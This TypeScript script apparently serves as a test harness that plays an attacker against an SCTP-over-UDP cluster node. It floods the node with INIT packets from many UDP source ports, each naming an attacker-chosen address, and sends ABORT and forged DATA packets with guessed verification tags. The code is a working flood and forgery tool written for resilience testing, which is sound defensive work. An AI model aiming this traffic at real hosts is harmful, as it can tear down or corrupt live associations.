/**
 * Another local process attacking a cluster node (`node flood.ts HOST UDP_PORT SCTP_PORT
 * COUNT`): COUNT INITs from many UDP source ports, each listing an address of the attacker's
 * choosing, and COUNT packets with guessed verification tags (ABORTs and DATA) aimed at the
 * association on SCTP_PORT. Prints one JSON line `{"t":"flooded","sent":N}` and exits.
 */
import { randomInt } from "node:crypto"
import { createSocket } from "node:dgram"
import { Packet } from "@understudy/multihome"

const [host, udpPortText, sctpPortText, countText] = process.argv.slice(2)
const udpPort = Number(udpPortText)
const sctpPort = Number(sctpPortText)
const count = Number(countText)

const init = (sourcePort: number) =>
  Packet.encode({
    sourcePort,
    destinationPort: sctpPort,
    verificationTag: 0,
    chunks: [
      {
        _tag: "Init",
        initiateTag: randomInt(1, 2 ** 32 - 1),
        advertisedReceiverWindowCredit: 65_536,
        outboundStreams: 10,
        inboundStreams: 10,
        initialTsn: randomInt(0, 2 ** 32 - 1),
        parameters: [{ _tag: "Ipv4Address", address: new Uint8Array([10, 6, 6, 6]) }],
      },
    ],
  })

const guess = (sourcePort: number, index: number) =>
  Packet.encode({
    sourcePort,
    destinationPort: sctpPort,
    verificationTag: randomInt(1, 2 ** 32 - 1),
    chunks:
      index % 2 === 0
        ? [{ _tag: "Abort", reflected: false, causes: [] }]
        : [
            {
              _tag: "Data",
              unordered: false,
              beginning: true,
              ending: true,
              immediate: false,
              tsn: randomInt(0, 2 ** 32 - 1),
              streamIdentifier: 0,
              streamSequenceNumber: 0,
              payloadProtocolIdentifier: 0,
              userData: new TextEncoder().encode("forged"),
            },
          ],
  })

// A few sockets, so INITs come from several UDP ports; sends are paced in small bursts.
const sockets = Array.from({ length: 8 }, () => createSocket("udp4"))
let sent = 0
for (let index = 0; index < count; index++) {
  const socket = sockets[index % sockets.length]!
  await new Promise<void>((resolve) =>
    socket.send(init(40_000 + index), udpPort, host, () => resolve()),
  )
  // The usrsctp client's SCTP port is unknown to us: guess it as an attacker would.
  await new Promise<void>((resolve) =>
    socket.send(guess(randomInt(1, 65_535), index), udpPort, host, () => resolve()),
  )
  sent += 2
  if (index % 10 === 9) await new Promise((resolve) => setTimeout(resolve, 5))
}
for (const socket of sockets) socket.close()
process.stdout.write(`${JSON.stringify({ t: "flooded", sent })}\n`)
